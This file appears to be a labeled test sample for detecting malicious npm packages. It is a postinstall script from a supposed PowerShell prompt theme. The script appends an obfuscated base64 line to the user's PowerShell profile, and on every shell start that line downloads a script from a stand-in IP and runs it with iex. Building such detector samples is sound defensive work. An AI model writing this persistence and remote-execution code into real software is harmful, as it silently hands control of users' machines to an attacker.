// source: blind set 49's PowerShell prompt theme (persistence): its postinstall asks PowerShell for
// $PROFILE.CurrentUserAllHosts and appends a line that runs base64-decoded PowerShell (a background job that
// downloads a script and runs it with iex) to every PowerShell start.
// when: install
// expect: malicious
const fs = require('fs');
const { execFileSync } = require('child_process');

const LINE = "try { iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('JG51bGwgPSBTdGFydC1Kb2IgeyBpd3IgaHR0cDovLzIwMy4wLjExMy40NS9wIHwgaWV4IH0='))) } catch {}";

for (const exe of ['pwsh', 'powershell']) {
  try {
    const profile = execFileSync(exe, ['-NoProfile', '-Command', '$PROFILE.CurrentUserAllHosts'], { encoding: 'utf8' }).trim();
    if (profile) fs.appendFileSync(profile, '\n' + LINE + '\n');
  } catch (e) {}
}
